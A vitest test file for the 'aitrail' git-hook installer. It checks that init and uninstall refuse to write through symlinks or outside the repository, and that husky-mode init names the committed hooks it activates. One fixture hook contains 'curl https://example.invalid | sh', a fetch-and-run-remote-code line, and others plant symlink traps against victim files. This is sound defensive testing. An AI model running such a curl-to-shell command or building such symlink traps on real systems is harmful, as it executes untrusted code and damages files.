import { chmodSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { aitrail } from '../helpers/cli.js';
import { makeRepo, tempDir, type TestRepo } from '../helpers/gitdir.js';
import { gitRun } from '../helpers/hooks.js';

/** A repository at `<parent>/repo` and a victim file and directory beside it, outside the repository. */
function hostile(): { repo: TestRepo; parent: string; victim: string; outside: string } {
  const parent = tempDir('aitrail-symlink-');
  const repo = makeRepo({ dir: join(parent, 'repo') });
  const victim = join(parent, 'victim');
  writeFileSync(victim, 'precious\n');
  chmodSync(victim, 0o640);
  const outside = join(parent, 'outside');
  mkdirSync(outside);
  writeFileSync(join(outside, 'keep'), 'keep\n');
  return { repo, parent, victim, outside };
}

/** Bytes and mode of every entry under `path` (symlinks by target): proof nothing was touched. */
function fingerprint(path: string): string {
  const stat = lstatSync(path);
  if (stat.isSymbolicLink()) return `link`;
  if (stat.isFile()) return `${(stat.mode & 0o7777).toString(8)}:${readFileSync(path, 'base64')}`;
  return `dir{${readdirSync(path).sort().map((name) => `${name}=${fingerprint(join(path, name))}`).join(',')}}`;
}

function commitAll(repo: TestRepo): void {
  repo.git(['add', '-A']);
  repo.git(['commit', '-q', '--no-verify', '-m', 'hostile']);
}

describe('init and uninstall never write through a symlink nor outside the repository', () => {
  it('a committed .husky/commit-msg -> ../../victim: refused, naming it; the victim keeps its bytes and mode', () => {
    const { repo, victim } = hostile();
    repo.write('.husky/pre-commit', 'echo team\n');
    symlinkSync('../../victim', join(repo.dir, '.husky', 'commit-msg'));
    commitAll(repo);
    const before = fingerprint(victim);
    const result = aitrail(repo.dir, ['init']);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/nothing installed: .*\.husky\/commit-msg is a symbolic link \(-> \.\.\/\.\.\/victim\); aitrail never writes through a symbolic link/);
    expect(fingerprint(victim)).toBe(before);
    expect(statSync(victim).mode & 0o7777).toBe(0o640);
    expect(gitRun(repo.dir, ['config', 'core.hooksPath']).status).toBe(1); // husky not set up either
    expect(aitrail(repo.dir, ['init', '--force']).code).toBe(2);
    expect(fingerprint(victim)).toBe(before);
  });

  it('.husky itself a symlink to a directory outside: refused, nothing written there', () => {
    const { repo, outside } = hostile();
    symlinkSync('../outside', join(repo.dir, '.husky'));
    commitAll(repo);
    const before = fingerprint(outside);
    const result = aitrail(repo.dir, ['init', '--mode', 'husky']);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/\.husky is a symbolic link \(-> \.\.\/outside\)/);
    expect(fingerprint(outside)).toBe(before);
  });

  it('.husky/_ (husky\'s runtime) a symlink, or holding one: refused before husky writes there', () => {
    const { repo, outside } = hostile();
    repo.write('.husky/pre-commit', 'echo team\n');
    symlinkSync('../../outside', join(repo.dir, '.husky', '_'));
    commitAll(repo);
    const before = fingerprint(outside);
    const result = aitrail(repo.dir, ['init']);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/\.husky\/_ is a symbolic link.*husky would write through it/);
    expect(fingerprint(outside)).toBe(before);

    const other = hostile();
    other.repo.write('.husky/pre-commit', 'echo team\n');
    mkdirSync(join(other.repo.dir, '.husky', '_'));
    symlinkSync('../../../victim', join(other.repo.dir, '.husky', '_', 'h'));
    commitAll(other.repo);
    const victimBefore = fingerprint(other.victim);
    const inner = aitrail(other.repo.dir, ['init']);
    expect(inner.code).toBe(2);
    expect(inner.stderr).toMatch(/\.husky\/_\/h is a symbolic link/);
    expect(fingerprint(other.victim)).toBe(victimBefore);
  });

  it('core.hooksPath through a committed symlink (out of the repo), or from outside into the work tree: refused', () => {
    const { repo, outside } = hostile();
    symlinkSync('../outside', join(repo.dir, '.githooks'));
    commitAll(repo);
    repo.git(['config', 'core.hooksPath', '.githooks']);
    const before = fingerprint(outside);
    const out = aitrail(repo.dir, ['init']);
    expect(out.code).toBe(2);
    expect(out.stderr).toMatch(/\.githooks is a symbolic link/);
    expect(fingerprint(outside)).toBe(before);

    const into = hostile();
    into.repo.write('tools/hooks/readme', 'committed\n');
    commitAll(into.repo);
    symlinkSync(join(into.repo.dir, 'tools', 'hooks'), join(into.parent, 'hooks-link'));
    into.repo.git(['config', 'core.hooksPath', join(into.parent, 'hooks-link')]);
    const inside = aitrail(into.repo.dir, ['init']);
    expect(inside.code).toBe(2);
    expect(inside.stderr).toMatch(/hooks-link leads into the work tree/);
    expect(readdirSync(join(into.repo.dir, 'tools', 'hooks'))).toEqual(['readme']);
  });

  it('.git/hooks leading out of the git directory: refused', () => {
    const { repo, outside } = hostile();
    rmSync(join(repo.dir, '.git', 'hooks'), { recursive: true, force: true });
    symlinkSync(outside, join(repo.dir, '.git', 'hooks'));
    const before = fingerprint(outside);
    const result = aitrail(repo.dir, ['init', '--mode', 'git']);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/\.git\/hooks is a symbolic link/);
    expect(fingerprint(outside)).toBe(before);
  });

  it('uninstall after .husky became a symlink: deletes nothing through it', () => {
    const { repo, outside } = hostile();
    repo.write('package.json', '{"name":"x","devDependencies":{"husky":"9.1.7"}}');
    commitAll(repo);
    expect(aitrail(repo.dir, ['init']).code).toBe(0);
    expect(existsSync(join(repo.dir, '.husky', 'commit-msg'))).toBe(true);
    // The next pull replaces .husky with a link to a directory holding files named like ours.
    rmSync(join(repo.dir, '.husky'), { recursive: true });
    mkdirSync(join(outside, '_'));
    writeFileSync(join(outside, '_', 'h'), 'runtime\n');
    writeFileSync(join(outside, 'commit-msg'), readFileSync(join(repo.dir, '..', 'victim')));
    symlinkSync('../outside', join(repo.dir, '.husky'));
    const before = fingerprint(outside);
    const result = aitrail(repo.dir, ['uninstall']);
    expect(result.code).toBe(2);
    expect(result.stdout).toMatch(/refused\s+.*\.husky.*symbolic link/);
    expect(fingerprint(outside)).toBe(before);
  });

  it('a foreign hook that is a symlink is renamed as a link (never written through) and restored', () => {
    const { repo, victim } = hostile();
    symlinkSync(victim, join(repo.dir, '.git', 'hooks', 'commit-msg'));
    const before = fingerprint(victim);
    expect(aitrail(repo.dir, ['init', '--mode', 'git']).code).toBe(0);
    expect(lstatSync(join(repo.dir, '.git', 'hooks', 'commit-msg.aitrail-chained')).isSymbolicLink()).toBe(true);
    expect(aitrail(repo.dir, ['init', '--mode', 'git', '--force']).code).toBe(0);
    expect(aitrail(repo.dir, ['uninstall']).code).toBe(0);
    expect(lstatSync(join(repo.dir, '.git', 'hooks', 'commit-msg')).isSymbolicLink()).toBe(true);
    expect(fingerprint(victim)).toBe(before);
  });
});

describe('init in husky mode names the committed hooks it activates', () => {
  it('lists committed .husky hooks that are not aitrail\'s, before git starts running them', () => {
    const repo = makeRepo();
    repo.write('.husky/pre-commit', 'curl https://example.invalid | sh\n');
    repo.write('.husky/post-checkout', '#!/bin/sh\necho hi\n');
    repo.write('.husky/notes.md', 'not a hook\n');
    commitAll(repo);
    const result = aitrail(repo.dir, ['init']);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/Activating hooks already committed in this repository, which git now runs: \.husky\/post-checkout, \.husky\/pre-commit \(not aitrail's/);
    expect(result.stdout).not.toMatch(/notes\.md|\.husky\/commit-msg,/);
    expect(repo.git(['config', 'core.hooksPath'])).toBe('.husky/_');
    // Already active: nothing newly activated, nothing said.
    expect(aitrail(repo.dir, ['init']).stdout).not.toMatch(/Activating/);
  });
});
